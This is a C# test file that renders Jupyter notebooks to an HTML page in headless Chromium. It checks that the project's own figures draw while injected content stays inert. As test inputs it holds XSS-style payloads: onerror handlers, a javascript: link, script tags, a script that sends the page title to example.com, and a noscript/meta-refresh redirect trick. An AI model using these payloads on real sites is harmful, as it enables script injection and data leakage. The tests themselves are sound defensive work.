using System.IO.Compression;
using AngleSharp.Html.Parser;
using MemoryWall.Charts.Scripts;
using MemoryWall.NotebookRunner.Rendering;
using static MemoryWall.NotebookRunner.Tests.Notebooks;

namespace MemoryWall.NotebookRunner.Tests.Rendering;

/// <summary>Pages in a real browser without a network.</summary>
public sealed class ChromiumTests : IDisposable
{
    /// <summary>The environment variable that names a page written by <c>memwall study</c> or <c>memwall report</c>.</summary>
    private const string PageVariable = "MEMWALL_PAGE";

    private readonly TestFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task Page_FiguresOfThisProjectAreDrawn_NothingElseRuns_AndTheConsoleIsQuiet()
    {
        var library = "document.body.dataset.hostile=0;window.Lib={n:0};/*" + new string('x', 5000) + "*/";
        var figure = Figure() + "<script>document.body.dataset.hostile=4;location='https://example.com/?'+document.title</script>";
        var page = new HtmlPage();
        page.AddNotebook(_folder.Write("nb.ipynb", Json(
            Prose("# Title\n\n<img src=x onerror=\"document.body.dataset.hostile=1\"> [x](javascript:alert(1))"),
            Executed("1", Data(("text/html", $"<script>{library}</script>"))),
            Executed("2", Data(("text/html", figure))),
            Executed("3",
                Data(("text/html",
                    $"<script>{library}</script>{figure}<img src='https://example.com/x.png' onerror='document.body.dataset.hostile=2'>"))),
            Executed("4", Stream("<script>document.body.dataset.hostile=3</script>")),
            // Followed, it would leave a page without any of these.
            Executed("5", Data(("text/html",
                "<noscript><!--</noscript><meta http-equiv=refresh content='0;url=data:text/plain,left'>--></noscript>"))))));
        var (dom, console) = await Chromium.OpenAsync(_folder.Write("page.html", page.ToHtml()));

        Assert.Contains("data-drawn=\"yes\"", dom);
        Assert.DoesNotContain("data-hostile", dom);
        Assert.DoesNotContain("http-equiv=\"refresh\"", dom);
        Assert.DoesNotContain("CONSOLE", console);
        Assert.Contains("<button id=\"toggle-code\" type=\"button\" aria-pressed=\"false\">", dom);
        // Folded code is hidden until the button shows it.
        Assert.Contains("<body class=\"quiet\">", dom);
    }

    // As the project writes one: the chart as deflated JSON in base64.
    private static string Figure()
    {
        using var packed = new MemoryStream();
        using (var stream = new DeflateStream(packed, CompressionLevel.Optimal))
            stream.Write("""{"data":[{"x":[1,2],"y":[3,4],"type":"scatter"}],"layout":{},"config":{}}"""u8);
        var data = FigureScripts.WriteFigureData("0123456789abcdef", Convert.ToBase64String(packed.ToArray()));
        return $"<div {FigureScripts.FigureAttribute}=\"0123456789abcdef\" style=\"width:600px\"><svg></svg></div><script>{data}</script>";
    }

    /// <summary>
    /// A whole study, if the variable names one: every figure has marks, one plotly.js draws them all, and the console stays empty.
    /// </summary>
    [Fact]
    public async Task StudyPage_EveryFigureHasMarks_AndTheConsoleIsQuiet()
    {
        var page = Environment.GetEnvironmentVariable(PageVariable);
        Assert.SkipWhen(string.IsNullOrEmpty(page),
            $"{PageVariable} is not set; the continuous integration sets it to the page of its study");
        Assert.InRange(new FileInfo(page).Length, 1, 6_000_000);
        // The script comes before the page's content security policy, which would block it.
        var whole = (await File.ReadAllTextAsync(page)).Replace("<head>", "<head>" + Chromium.AllInSight, StringComparison.Ordinal);
        var (dom, console) = await Chromium.OpenAsync(_folder.Write("whole.html", whole), waitMilliseconds: 20_000);
        Assert.DoesNotContain("CONSOLE", console);

        using var document = new HtmlParser().ParseDocument(dom);
        Assert.Single(document.Scripts, script => script.Text.Length > 1_000_000);
        var figures = document.QuerySelectorAll("[data-memwall-figure]").ToList();
        Assert.True(figures.Count >= 8, $"{figures.Count} figures");
        Assert.All(figures, figure =>
        {
            var title = figure.Closest("figure")!.QuerySelector("strong")!.TextContent;
            Assert.True(figure.GetAttribute("data-drawn") == "yes", $"still a picture: {title}");
            Assert.True(figure.QuerySelector(".scatterlayer .trace, .barlayer .point, .heatmaplayer .hm") is not null, $"no mark: {title}");
        });
        Assert.Empty(document.QuerySelectorAll("p.stopped, pre.error"));
    }
}
